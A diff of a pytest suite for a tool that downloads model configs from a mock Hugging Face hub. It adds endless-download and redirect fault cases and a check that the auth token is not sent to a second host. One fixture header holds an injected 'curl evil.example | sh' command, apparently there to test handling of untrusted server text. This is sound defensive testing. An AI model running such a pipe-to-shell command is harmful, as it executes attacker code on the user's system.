@@ -11,7 +11,7 @@ from pathlib import Path
 from typing import Any
 
 import pytest
-from hub_server import MAIN, MISSING, Answer, Hub
+from hub_server import MAIN, MISSING, NO_FILE, Answer, Hub
 
 pytest.importorskip("huggingface_hub")
 
@@ -61,6 +61,8 @@ ANSWERS = {
     "org/other": {MAIN: Answer(json.dumps({**CONFIG, "model_type": "lama"}).encode())},
     "org/chatty": {MAIN: Answer(GOOD, headers={"X-HF-Warning": "topic; run curl evil.example | sh"})},
     "org/endless": {MAIN: Answer(GOOD, fault="endless")},
+    "org/endless-refusal": {MAIN: Answer(GOOD, fault="endless-refusal")},
+    "org/endless-hop": {MAIN: Answer(GOOD, fault="endless-hop")},
     "org/drip": {MAIN: Answer(GOOD, fault="drip")},
     "org/slow-head": {MAIN: Answer(GOOD, fault="slow-head")},
     "org/modest": {MAIN: Answer(GOOD, fault="modest")},
@@ -279,6 +281,8 @@ def test_no_progress_bar_on_a_terminal(shell: Shell) -> None:
         ("org/boast", ["larger than 16 MiB"]),
         ("org/huge", ["larger than 16 MiB"]),
         ("org/endless", ["larger than 16 MiB"]),
+        ("org/endless-refusal", ["download failed", "500"]),
+        ("org/endless-hop", ["download failed", "redirections"]),
         ("org/modest", ["download failed"]),
         ("org/bomb", ["download failed", "gzip"]),
         ("org/portal", ["HF_ENDPOINT", "or give a file"]),
@@ -301,6 +305,17 @@ def test_a_hub_that_never_answers_is_given_up(shell: Shell) -> None:
     assert shell.kept() == []
 
 
+def test_a_file_at_another_host_is_read_without_the_token(tmp_path: Path) -> None:
+    with Hub({"cdn/files": {MAIN: Answer(GOOD)}}) as cdn:
+        there = {"Location": f"{cdn.url}/cdn/files/resolve/main/config.json", "X-Linked-Size": str(len(GOOD))}
+        with Hub({"org/linked": {MAIN: Answer(status=302, headers=there), BESIDE: NO_FILE}}) as running:
+            shell = Shell(tmp_path, running.url)
+            assert shell.config("org/linked", HF_TOKEN="hf_secret") == CONFIG
+            assert "Bearer hf_secret" in running.tokens
+    assert cdn.requests == [("GET", "/cdn/files/resolve/main/config.json")]
+    assert cdn.tokens == [""]
+
+
 @pytest.mark.parametrize("model", ["org/drip", "org/slow-head", "org/beside-drip", "org/loop"])
 def test_a_hub_that_never_ends_is_given_up(shell: Shell, model: str) -> None:
     line = shell.error("report", model, HF_HUB_ETAG_TIMEOUT="1", HF_HUB_DOWNLOAD_TIMEOUT="1")
@@ -308,9 +323,10 @@ def test_a_hub_that_never_ends_is_given_up(shell: Shell, model: str) -> None:
     assert shell.kept() == []
 
 
-def test_bytes_without_end_are_not_taken(shell: Shell, hub: Hub) -> None:
+@pytest.mark.parametrize("model", ["org/endless", "org/endless-refusal", "org/endless-hop"])
+def test_bytes_without_end_are_not_taken(shell: Shell, hub: Hub, model: str) -> None:
     before = hub.sent
-    shell.error("report", "org/endless")
+    shell.error("report", model)
     assert hub.sent - before < 64 * 2**20  # of them 16 MiB, and what the sockets hold
 
 
